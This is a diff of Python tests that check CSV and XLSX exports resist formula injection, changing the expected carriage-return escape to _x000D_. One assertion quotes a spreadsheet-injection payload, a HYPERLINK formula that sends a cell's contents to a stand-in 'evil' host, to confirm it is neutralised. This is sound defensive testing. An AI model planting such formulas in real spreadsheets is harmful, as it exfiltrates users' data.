@@ -155,8 +155,9 @@ def test_write_xlsx_stores_text_as_text(tmp_path) -> None:  # type: ignore[no-un
     write_xlsx(frame, tmp_path / "t.xlsx", sheet_name="plan")
     rows = _assert_xlsx_safe(tmp_path / "t.xlsx", "plan")
     assert rows[0] == ["name", "'=v"]
-    # XML turns a carriage return into a line feed (openpyxl does not escape it): harmless
-    assert [r[0] for r in rows[1:]] == ["'" + t.replace("\r", "\n") for t in EVIL]
+    # XlsxWriter keeps a carriage return as the OOXML escape _x000D_ (Excel shows the
+    # character; openpyxl reads the escape back as written): the text is kept, not run
+    assert [r[0] for r in rows[1:]] == ["'" + t.replace("\r", "_x000D_") for t in EVIL]
     assert [r[1] for r in rows[1:]] == list(range(len(EVIL)))  # numbers stay numbers
 
 
@@ -216,7 +217,7 @@ def test_plan_csv_and_xlsx_are_formula_safe(tmp_path) -> None:  # type: ignore[n
     assert b',"\'=HYPERLINK(""http://evil""&B4,""x"")",' in data and b',"=HYPERLINK' not in data
     xrows = _assert_xlsx_safe(run.folder / "plan.xlsx", "plan")
     assert xrows[0] == rows[0]
-    assert {r[name] for r in xrows[1:]} == {"'" + t.replace("\r", "\n") for t in EVIL}
+    assert {r[name] for r in xrows[1:]} == {"'" + t.replace("\r", "_x000D_") for t in EVIL}
 
 
 def test_warnings_csv_is_formula_safe(tmp_path) -> None:  # type: ignore[no-untyped-def]
